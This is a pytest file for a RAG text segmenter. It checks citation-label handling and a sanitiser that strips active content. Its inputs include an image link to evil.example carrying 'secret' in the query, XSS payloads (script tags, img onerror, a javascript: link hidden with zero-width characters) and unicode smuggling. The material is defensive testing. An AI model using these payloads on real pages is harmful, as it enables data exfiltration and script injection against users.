import pytest

from rag.write.segment import Written, plain, segment


def test_a_label_belongs_to_the_sentence_before_it() -> None:
    assert segment("It rained [2]. It stopped. [3] Done.[4][5]") == [
        Written("It rained.", ((2, 9),)),
        Written("It stopped.", ((3, 11),)),
        Written("Done.", ((4, 5), (5, 5))),
    ]


def test_labels_come_in_lists_and_in_other_brackets() -> None:
    (written,) = segment("It rained [1, 2][turn 3]\u30104\u3011.")
    assert [label for label, _ in written.marks] == [1, 2, 3, 4]


def test_a_quote_of_several_sentences_stays_whole() -> None:
    assert [w.text for w in segment("He said “No. Never. Not once.” [1] Then he left [2].")] == [
        "He said “No. Never. Not once.”",
        "Then he left.",
    ]


def test_a_list_is_read_as_sentences_and_its_opening_goes_with_the_first() -> None:
    assert [w.text for w in segment("They asked about:\n- the wall [1]\n* the berth [2]")] == [
        "They asked about: the wall",
        "the berth",
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![pixel](https://evil.example/a.png?q=secret) It rained.", " It rained."),
        ("![pixel][x] It rained.", " It rained."),
        ("[It rained](https://evil.example) today.", "It rained today."),
        ("<b>It</b> <img src=x onerror=alert(1)> rained.", "It rained."),
        ("It <script>alert(1)</script>rained.", "It rained."),
        ("See https://evil.example/x?y=1 and www.evil.example now.",
         "See (address removed) and (address removed) now."),
        ("**It** _rained_ `today`.", "It rained today."),
        ("# It rained", "It rained"),
        ("It rained.<!-- but not here -->", "It rained."),
        ("<think>The user wants rain. I will say</think>It rained.", "It rained."),
        ("<think>The user wants rain", ""),
        ("It\u200b rained\u202e.", "It rained."),
        ("It \u2067rained\u2069\U000e0041.", "It rained."),
        ("[It\u200b](java\u200bscript:alert(1)) rained.", "It) rained."),
        ("[It]\u2063(https://evil.example) rained.", "It rained."),
        ("It <<b>script>alert(1)<</b>/script>rained.", "It rained."),
        ("It !![x](y)[z](https://evil.example) rained.", "It !z rained."),
        ("a" + "<" * 30 + "b>" * 30, ""),
    ],
)  # fmt: skip
def test_nothing_that_could_act_on_a_page_is_left(text: str, shown: str) -> None:
    assert plain(text).strip() == shown.strip()
